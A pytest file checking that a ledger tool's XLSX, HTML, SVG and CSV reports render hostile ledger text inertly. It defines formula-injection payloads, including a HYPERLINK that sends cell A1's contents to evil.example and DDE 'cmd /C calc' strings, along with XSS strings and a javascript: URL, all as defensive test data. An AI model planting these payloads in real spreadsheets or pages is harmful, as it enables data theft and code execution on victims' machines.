"""Inert output: hostile text in a ledger stays plain text in the report files.

A ledger is built (with ``ledger.edit.add_entry``) whose notes, quotes,
locators, account names and document titles hold formula prefixes (= + - @,
tab, carriage return), HTML and script tags, control characters and very long
strings; ``ledger-tool report`` writes it; the XLSX must hold them as plain
strings (no formula but the report's own totals, no character Excel cannot
store, no cell over Excel's 32,767-character limit) and the HTML must show
them escaped (no script, no event attribute, no javascript: link).
"""
from __future__ import annotations

import datetime as dt
import html.parser
import re
import shutil
from pathlib import Path

import pytest

from ledger.edit import add_entry
from tests.conftest import REPO

DOC = "001_c33d2c2f8263bd4b"
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click me")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
WHITESPACE_FORMULAS = ["\t=1+2+cmd|' /C calc'!A0", "\r=3+4+cmd|' /C calc'!A0"]
MARKUP = ['<script>alert("pwned")</script>', "<img src=x onerror=alert(1)>",
          '"><svg onload=alert(2)>', "</td></tr></table><h1>injected</h1>",
          "--><script>alert(4)</script><!--", "US$ $\\foo{$ mathtext"]
CONTROL = "ctrl\x01\x02\x07\x0b\x0c\x1b\x1f\x7f end"
LONG = "L" * 40_000
ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _cite(quote: str, locator: str = "") -> list[dict]:
    return [{"doc": DOC, "quote": quote, "locator": locator}]


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory, example_ledger) -> Path:
    import tomlkit

    book = tmp_path_factory.mktemp("inert") / "book"
    shutil.copytree(example_ledger, book)
    day = dt.date(2015, 9, 1)
    entries = []
    for i, f in enumerate(FORMULAS):
        entries.append({"id": f"formula-{i}", "funder": f"UK:{f}", "purpose": f"Test:{f}",
                        "notes": f, "recipient": f, "source": _cite(f, f)})
    for i, f in enumerate(WHITESPACE_FORMULAS):
        entries.append({"id": f"ws-formula-{i}", "funder": "UK", "purpose": "Test:Whitespace",
                        "source": _cite(f, f)})
    for i, m in enumerate(MARKUP):
        entries.append({"id": f"markup-{i}", "funder": f"UK:{m}", "purpose": f"Test:{m}",
                        "notes": m, "location": m, "tags": [m], "source": _cite(m, m)})
    # (account names refuse control characters: check says so; text fields keep them)
    entries.append({"id": "control", "funder": "UK:Control", "purpose": "Test:Control",
                    "notes": CONTROL, "source": _cite(CONTROL, CONTROL)})
    entries.append({"id": "long", "funder": "UK", "purpose": "Test:Long", "notes": LONG,
                    "source": _cite(LONG)})
    for n, e in enumerate(entries, 1):
        add_entry(book, {"date": day, "amount": f"£{n}m", **e})
    # a hostile document too: title, publisher, notes and a javascript: URL
    doc = ["", "[[document]]", 'id = "hostile-doc"']
    for k, v in (("title", MARKUP[0] + FORMULAS[0]), ("publisher", MARKUP[1]),
                 ("url", "javascript:alert(3)"), ("notes", CONTROL)):
        doc.append(f"{k} = {tomlkit.item(v).as_string()}")
    with open(book / "sources.toml", "a", encoding="utf-8") as fh:
        fh.write("\n".join(doc) + "\n")
    add_entry(book, {"id": "cites-hostile-doc", "date": day, "funder": "UK",
                     "purpose": "Test:Doc", "amount": "£99m",
                     "source": [{"doc": "hostile-doc", "quote": FORMULAS[1]}]})
    return book


@pytest.fixture(scope="module")
def report_dir(hostile_ledger, tmp_path_factory) -> Path:
    if not REPO.joinpath("ledger_tool", "cmd_report.py").exists():
        pytest.skip("ledger-tool report not written yet")
    from ledger_tool.cli import main

    out = tmp_path_factory.mktemp("inert-report") / "report"
    code = main(["report", str(hostile_ledger), "--out", str(out)])
    assert code == 0, "the report must be written, not crash, on hostile text"
    return out


# ------------------------------------------------------------------ XLSX
@pytest.fixture(scope="module")
def cells(report_dir):
    import openpyxl

    wb = openpyxl.load_workbook(report_dir / "report.xlsx")   # formulas as written
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    out.append((ws.title, c.coordinate, c.data_type, c.value))
    return out


OWN_FUNCTIONS = {"SUM", "SUMIF", "SUMIFS", "SUBTOTAL", "IF", "IFERROR", "ROUND", "ABS",
                 "MAX", "MIN", "COUNTIF"}


def test_xlsx_has_no_formula_but_its_own_totals(cells):
    """Formulas are the report's own arithmetic over cell ranges: known
    functions only, and nothing taken from the ledger's text."""
    formulas = [(s, ref, str(v)) for s, ref, t, v in cells if t == "f"]
    assert formulas, "the workbook's totals are live formulas (docs/reports.md)"
    for sheet, ref, v in formulas:
        used = set(re.findall(r"([A-Z][A-Z0-9.]*)\(", v))
        assert used <= OWN_FUNCTIONS, f"{sheet}!{ref} holds an unexpected formula {v!r}"
        for marker in ("cmd", "HYPERLINK", "evil", "alert", "calc", "1+2", "3+4"):
            assert marker not in v, f"{sheet}!{ref}: ledger text became a formula: {v!r}"


@pytest.mark.parametrize("payload", FORMULAS + MARKUP)
def test_xlsx_shows_hostile_text_as_plain_strings(cells, payload):
    texts = [(s, ref, t, v) for s, ref, t, v in cells if isinstance(v, str) and payload in v]
    assert texts, f"{payload!r} is missing from the workbook"
    for sheet, ref, t, _ in texts:
        assert t in ("s", "inlineStr", "str"), f"{sheet}!{ref} is {t!r}, not text"


@pytest.mark.parametrize("payload", WHITESPACE_FORMULAS)
def test_xlsx_keeps_tab_and_cr_prefixed_quotes_as_text(cells, payload):
    core = payload.lstrip()
    texts = [(s, ref, t, v) for s, ref, t, v in cells if isinstance(v, str) and core in v]
    assert texts, f"{payload!r} is missing from the workbook"
    assert all(t != "f" for _, _, t, _ in texts)


def test_xlsx_replaces_control_characters_visibly(cells):
    for sheet, ref, _, v in cells:
        if isinstance(v, str):
            assert not ILLEGAL_XML.search(v), f"{sheet}!{ref} holds a control or invisible character"
    shown = [v for *_, v in cells if isinstance(v, str) and "ctrl" in v and "end" in v]
    assert shown, "the text with control characters is missing from the workbook"
    for v in shown:
        start = v.index("ctrl")
        middle = v[start + 4:v.index("end", start)]
        assert middle.strip(), f"control characters vanished instead of being shown: {v!r}"


def test_xlsx_cells_fit_excel_limit(cells):
    for sheet, ref, _, v in cells:
        if isinstance(v, str):
            assert len(v) <= 32_767, f"{sheet}!{ref} has {len(v)} characters (Excel's limit is 32,767)"
    assert any(isinstance(v, str) and v.startswith("L" * 1000) for *_, v in cells), \
        "the very long note is missing from the workbook"


def test_chart_svgs_are_wellformed_xml_without_scripts(report_dir):
    import xml.etree.ElementTree as ET

    svgs = sorted(report_dir.glob("*.svg"))
    assert svgs, "the report writes SVG charts"
    for f in svgs:
        root = ET.parse(f).getroot()          # control characters would make this fail
        assert not [el for el in root.iter() if el.tag.rsplit("}", 1)[-1] == "script"], f


# ------------------------------------------------------------------ HTML
class _Collect(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def _strings(value):
    """Every string in the page's JSON data (the page puts them in with textContent)."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


@pytest.fixture(scope="module")
def page(report_dir):
    import json
    import re
    raw = (report_dir / "report.html").read_text(encoding="utf-8")
    p = _Collect()
    p.feed(raw)
    p.close()
    data = re.search(r'<script type="application/json" id="report-data">(.*?)</script>', raw, re.S)
    p.text.extend(_strings(json.loads(data[1])))
    return raw, p


def test_html_has_no_active_content(page):
    """The only scripts: the page's data (JSON, never run) and its own code,
    the one script the Content-Security-Policy allows (by hash)."""
    from reports.page_script import SCRIPT
    raw, p = page
    scripts = [dict(attrs) for tag, attrs in p.tags if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "report-data"}, {}]
    assert raw.count("<script") == 2 and f"<script>{SCRIPT}</script>" in raw
    for tag, attrs in p.tags:
        assert tag not in ("iframe", "object", "embed"), f"<{tag}> in the report"
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"event attribute {name}={value!r} on <{tag}>"
            if name.lower() in ("href", "src", "xlink:href"):
                assert (value or "").startswith(("#", "http://", "https://", "data:image/")), \
                    f"<{tag} {name}={value!r}>"
    assert "javascript:" not in " ".join(v or "" for _, attrs in p.tags for _, v in attrs)


@pytest.mark.parametrize("payload", MARKUP + FORMULAS)
def test_html_shows_hostile_text_escaped(page, payload):
    raw, p = page
    text = "".join(p.text)
    assert payload in text, f"{payload!r} is not shown as text"
    assert payload not in raw or "<" not in payload and ">" not in payload and '"' not in payload


def test_html_has_no_injected_elements(page):
    _, p = page
    headings = [t for t, _ in p.tags if t == "h1"]
    assert len(headings) <= 1, "a ledger value opened an <h1>"
    assert not ILLEGAL_XML.search(page[0]), "raw control characters in the HTML"


# ----------------------------------------------------------------- CSV files
def test_csv_outputs_keep_formula_like_text_inert(tmp_path, run_cli):
    """CSV opened in a spreadsheet: text that starts like a formula gets a
    leading apostrophe, negative numbers stay numbers, and import reads the
    text back as it was."""
    import csv
    import io

    from reports.text import inert, inert_frame
    import pandas as pd

    assert inert("=SUM(A1)") == "'=SUM(A1)" and inert("-12.5") == "-12.5" and inert("@x") == "'@x"
    assert inert("UK") == "UK" and inert(-3) == -3
    f = inert_frame(pd.DataFrame({"a": ["+cmd", "ok", None], "n": [-1, 2, 3], "s": ["-5", "-x", ""]}))
    assert f["a"].tolist()[:2] == ["'+cmd", "ok"] and f["s"].tolist() == ["-5", "'-x", ""]

    journal = tmp_path / "j.toml"
    journal.write_text('[[document]]\nid = "d"\n\n[[entry]]\nid = "e1"\ndate = 2015-01-01\n'
                       'funder = "=HYPERLINK(1)"\npurpose = "@SUM"\namount = "£5 million"\n'
                       '  [[entry.source]]\n  doc = "d"\n  quote = "=cmd|/c calc"\n', encoding="utf-8")
    code, out, err = run_cli("list", journal, "--format", "csv")
    assert code == 0, err
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["funder"] == "'=HYPERLINK(1)" and row["purpose"] == "'@SUM"
    code, _, err = run_cli("report", journal, "--out", tmp_path / "r")
    assert code == 0, err
    summary = list(csv.DictReader((tmp_path / "r" / "summary.csv").open(encoding="utf-8")))
    assert summary[0]["funder"] == "'=HYPERLINK(1)"
    code, _, err = run_cli("export", journal, "--to", "csv", "-o", tmp_path / "e.csv")
    assert code == 0, err
    assert "'=HYPERLINK(1)" in (tmp_path / "e.csv").read_text(encoding="utf-8")
    (tmp_path / "back").mkdir()
    code, _, err = run_cli("import", tmp_path / "e.csv", "-o", tmp_path / "back" / "back.toml")
    assert code == 0, err
    import ledger
    (back,) = ledger.load(tmp_path / "back" / "back.toml").entries
    assert back.funder == "=HYPERLINK(1)" and back.purpose == "@SUM"
